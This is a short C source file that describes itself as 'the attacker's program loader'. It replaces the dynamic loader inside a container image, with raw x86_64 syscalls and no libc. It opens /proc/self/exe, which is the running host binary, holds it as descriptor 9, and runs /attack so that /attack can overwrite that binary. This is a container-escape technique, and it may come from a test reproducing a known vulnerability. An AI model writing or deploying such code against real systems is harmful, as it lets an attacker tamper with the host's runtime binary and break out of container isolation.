/* SPDX-License-Identifier: Apache-2.0
 *
 * interpreter - the attacker's program loader: whoever is executed dynamically in the image runs this in its place
 *
 * It holds what runs it open as descriptor 9, and becomes /attack, so that nobody executes that file any more and it is not busy.
 * Without a libc: what the kernel tells a loader is about another program than itself.
 */
#if !defined(__x86_64__)
#error "it knows x86_64 only"
#endif

static long call3(long nr, const void *a, const void *b, long c)
{
	long r;

	__asm__ volatile("syscall" : "=a"(r) : "a"(nr), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
	return r;
}

__attribute__((noreturn, force_align_arg_pointer)) void _start(void)
{
	static const char self[] = "/proc/self/exe", attack[] = "/attack", how[] = "write-exe";
	const char *const argv[] = { attack, how, 0 };
	const char *const env[] = { 0 };
	long fd = call3(2 /* open */, self, 0, 0);

	(void)call3(33 /* dup2 */, (const void *)fd, (const void *)9, 0);
	(void)call3(59 /* execve */, attack, argv, (long)env);
	for (;;)
		(void)call3(231 /* exit_group */, (const void *)3, 0, 0);
}
